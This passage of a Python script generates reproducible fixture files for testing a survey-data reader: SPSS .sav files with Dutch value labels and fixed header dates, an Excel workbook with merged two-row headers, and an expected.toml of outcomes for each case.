    regions = {"Noord": 1.0, "Zuid": 2.0, "Oost": 3.0, "West": 4.0}
    frame = pd.DataFrame(
        [
            [
                r[0],
                float(r[1]),
                *(99.0 if g == "n.v.t." else float(g) for g in r[2:5]),
                regions[r[5]],
                float(r[6].replace(",", ".")),
            ]
            for r in rows
        ],
        columns=COLUMNS,
    )
    grade_labels = {
        1.0: "zeer slecht",
        2.0: "slecht",
        3.0: "neutraal",
        4.0: "goed",
        5.0: "zeer goed",
        99.0: "n.v.t.",
    }
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "s.sav"
        pyreadstat.write_sav(
            frame,
            str(path),
            column_labels=[
                "Respondent",
                "Aanbeveling",
                "Levering",
                "Facturatie",
                "Service",
                "Regio",
                "Gewicht",
            ],
            variable_value_labels={
                "levering": grade_labels,
                "facturatie": grade_labels,
                "service": grade_labels,
                "regio": {v: k for k, v in regions.items()},
            },
            missing_ranges={"levering": [99.0], "facturatie": [99.0], "service": [99.0]},
        )
        data = bytearray(path.read_bytes())
    data[92:109] = b"01 Jan 2400:00:00"
    return bytes(data)


def _two_header_workbook() -> bytes:
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "data"
    sheet.append(["Respondent", None, "Beoordeling", None, None, "Profiel", None])
    sheet.merge_cells("A1:B1")
    sheet.merge_cells("C1:E1")
    sheet.merge_cells("F1:G1")
    sheet.append(COLUMNS)
    for row in GOOD:
        cells = [row[0], *(_number(v) for v in row[1:5]), row[5], _number(row[6])]
        sheet.append(cells)
    buffer = io.BytesIO()
    book.save(buffer)
    return _fixed_zip(buffer.getvalue())


def _number(value: str) -> object:
    try:
        return float(value.replace(",", "."))
    except ValueError:
        return value


def _fixed_zip(data: bytes) -> bytes:
    """The same workbook with fixed entry times and document dates (reproducible bytes)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w") as dst:
        for item in src.infolist():
            content = src.read(item.filename)
            if item.filename == "docProps/core.xml":
                content = re.sub(
                    rb"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", b"2024-01-01T00:00:00Z", content
                )
            info = zipfile.ZipInfo(item.filename, date_time=(2024, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            dst.writestr(info, content)
    return out.getvalue()


def _string_sav() -> bytes:
    import tempfile

    import pandas as pd
    import pyreadstat

    frame = pd.DataFrame([[*r[:6], r[6].replace(",", ".")] for r in GOOD], columns=COLUMNS)
    frame.loc[4, "levering"] = "zes"
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "s.sav"
        pyreadstat.write_sav(frame, str(path))
        data = bytearray(path.read_bytes())
    # The header holds the creation date and time (bytes 92-108): fix them.
    data[92:109] = b"01 Jan 2400:00:00"
    return bytes(data)


# -- expected.toml ------------------------------------------------------------------------
def _toml_value(value: object) -> str:
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int | float):
        return repr(value)
    if isinstance(value, str):
        escaped = value.replace("\\", "\\\\").replace('"', '\\"')
        # control characters (and invisible format characters) as escapes, readable in a diff
        escaped = "".join(c if c.isprintable() else f"\\u{ord(c):04x}" for c in escaped)
        return '"' + escaped + '"'
    if isinstance(value, list):
        return "[" + ", ".join(_toml_value(v) for v in value) + "]"
    if isinstance(value, dict):
        items = ", ".join(f"{_toml_value(str(k))} = {_toml_value(v)}" for k, v in value.items())
        return "{" + items + "}" if items else "{}"
    raise TypeError(f"cannot write {value!r} as TOML")


def _expected_toml(cases: list[dict]) -> str:
    lines = [
        "# Expected outcome of every file in this folder; written by tools/make_bad_inputs.py.",
        "# Do not edit by hand: change the script and run it again.",
    ]
    for item in cases:
        lines += ["", "[[case]]"]
        lines += [f"{key} = {_toml_value(value)}" for key, value in item.items()]
    return "\n".join(lines) + "\n"


if __name__ == "__main__":
    target = Path(sys.argv[1]) if len(sys.argv) > 1 else FOLDER
    paths = write_cases(target)
    print(f"{len(CASES)} cases, {len(paths)} files written to {target}")
